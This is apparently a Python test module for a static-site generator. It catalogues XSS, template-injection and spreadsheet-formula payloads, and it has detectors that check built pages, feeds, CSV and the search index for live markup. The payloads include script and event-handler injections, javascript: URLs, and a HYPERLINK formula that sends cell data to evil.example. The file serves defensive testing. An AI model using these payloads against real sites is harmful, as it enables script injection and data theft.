"""The hostile-input catalogue and the detector that says whether any of it is live.

Every payload calls `__pwn('<field>-<n>')`, so a payload that runs (in the test
browser) or survives as live markup (in the built files) names the field it came
in through and the payload that did it.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

# Jinja-looking text must stay text: 7 * 7777 = 54439 must never appear.
JINJA_PRODUCT = "54439"


def payloads(field: str) -> list[str]:
    """The catalogue, with markers naming `field`. Grouped by family (see FAMILIES)."""

    def mark(n: int) -> str:
        return f"__pwn('{field}-{n}')"

    data_html = base64.b64encode(f"<script>{mark(9)}</script>".encode()).decode()
    return [
        # script tags and event-handler attributes
        f"<script>{mark(1)}</script>",
        f"<img src=x onerror={mark(2)}>",
        f'"><svg onload={mark(3)}>',
        f"'><details open ontoggle={mark(4)}>",
        f'<iframe srcdoc="<script>{mark(5)}</script>"></iframe>',
        f'<div markdown="1" onmouseover="{mark(6)}">x</div>',
        # breaking out of JSON-LD and other script blocks
        f"</script><script>{mark(7)}</script>",
        # javascript: and data: URLs, plain and disguised
        f"[link](javascript:{mark(8)})",
        f"![image](data:text/html;base64,{data_html})",
        f"[link](&#106;avascript:{mark(10)})",
        f"[link]( JaVaScRiPt:{mark(11)} )",
        f'<a href="javascript:{mark(12)}">link</a>',
        f"<javascript:{mark(13)}>",
        # Markdown tricks: attribute lists, reference links, comments
        f"{{: onclick=\"{mark(14)}\" }}",
        f"\n\n[ref]: javascript:{mark(15)}\n\n[text][ref]",
        f"<!-- {mark(16)}",
        # template text
        f"{{{{ 7*7777 }}}} {{% raw %}} {field}",
        # spreadsheet formulas
        f'=HYPERLINK("http://evil.example/?"&A1,"{mark(17)}")',
    ]


FAMILIES = {
    "script tags and event handlers": 6,
    "JSON-LD / script breakout": 1,
    "javascript: and data: URLs": 6,
    "Markdown tricks": 3,
    "template text": 1,
    "spreadsheet formulas": 1,
}

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "cite"}
_INVISIBLE = re.compile(r"[\x00-\x20]+")
_BAD_SCHEMES = re.compile(r"^\s*(javascript|data|vbscript):", re.IGNORECASE)


class _LiveMarkup(HTMLParser):
    """Collects what in an HTML document could run: scripts, handlers, dangerous URLs."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.json_ld: list[str] = []
        self._script_type: str | None = None
        self._script_text: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in _URL_ATTRIBUTES and _BAD_SCHEMES.match(_INVISIBLE.sub("", value)):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "srcdoc" or (name == "style" and "__pwn" in value):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "meta" and (dict(attrs).get("http-equiv") or "").lower() == "refresh":
            target = (dict(attrs).get("content") or "").partition("url=")[2]
            if _BAD_SCHEMES.match(_INVISIBLE.sub("", target)):
                self.found.append(f"<meta refresh {target!r}>")
        if tag in {"iframe", "object", "embed", "base", "frame"}:
            self.found.append(f"<{tag}>")
        if tag == "script":
            self._script_type = dict(attrs).get("type") or "text/javascript"
            self._script_text = []

    def handle_data(self, data):
        if self._script_type is not None:
            self._script_text.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._script_type is not None:
            text = "".join(self._script_text)
            if self._script_type == "application/ld+json":
                self.json_ld.append(text)
            elif "__pwn" in text:
                self.found.append(f"<script>{text[:80]}")
            self._script_type = None


def live_in_html(text: str) -> list[str]:
    parser = _LiveMarkup()
    parser.feed(text)
    parser.close()
    found = list(parser.found)
    for block in parser.json_ld:
        try:
            json.loads(block)
        except ValueError:
            found.append(f"JSON-LD broken open: {block[:80]}")
    return found


def live_in_site(site: Path) -> list[str]:
    """Every trace of a live payload in a built site, as 'file: what' lines."""
    problems: list[str] = []

    def report(path: Path, items: list[str]) -> None:
        problems.extend(f"{path.relative_to(site)}: {item}" for item in items)

    for path in sorted(site.rglob("*")):
        if not path.is_file() or path.suffix == ".gz" or path.relative_to(site).parts[0] == "pagefind":
            continue  # gzip; the search index is read below
        text = path.read_text(encoding="utf-8", errors="replace")
        if JINJA_PRODUCT in text:
            report(path, [f"template text was evaluated ({JINJA_PRODUCT})"])
        if path.suffix == ".html":
            report(path, live_in_html(text))
        elif path.suffix == ".json" or path.suffix == ".geojson":
            json.loads(text)
        elif path.suffix == ".xml":
            root = ET.fromstring(text)
            # Feed readers render Atom's type="html" elements and RSS descriptions as
            # HTML; Atom's default, type="text", they show as text.
            for element in root.iter():
                if element.get("type") in ("html", "xhtml") or element.tag == "description":
                    report(path, live_in_html(element.text or ""))
        elif path.suffix == ".csv":
            for row in csv.reader(io.StringIO(text)):
                report(path, [f"formula cell {cell[:40]!r}" for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")])
    problems.extend(live_in_search(site))
    return problems


def live_in_search(site: Path) -> list[str]:
    """The search index (Pagefind's, in site/pagefind/) as the search box shows it.

    The index keeps each page's text and metadata as text (decoded here, so the
    template check sees them). Search results show titles and labels with
    textContent (build_tools/assets/search.js) and of Pagefind's excerpts only
    the <mark> tags as markup: a query for every payload's marker, through
    Pagefind's own script, must give excerpts with no other tag in them.
    """
    from build_tools.search_index import read_fragments
    from tests.search_queries import search

    problems = []
    fragments = read_fragments(site)
    for url, fragment in fragments.items():
        if JINJA_PRODUCT in json.dumps(fragment, ensure_ascii=False):
            problems.append(f"pagefind {url}: template text was evaluated ({JINJA_PRODUCT})")
    results = search(site, "__pwn", limit=len(fragments))["__pwn"]["results"]
    if not results:
        problems.append("pagefind: a search for the payloads' marker finds nothing, so no excerpt was checked")
    for result in results:
        problems.extend(f"pagefind {result['url']}: {item}" for item in live_in_excerpt(result["excerpt"]))
    return problems


def live_in_excerpt(excerpt: str) -> list[str]:
    """Markup in a search excerpt other than Pagefind's <mark> highlights."""
    found = [f"excerpt markup {tag!r}" for tag in re.findall(r"<(?!/?mark>)[^>]*>?", excerpt)]
    return found + live_in_html(excerpt)
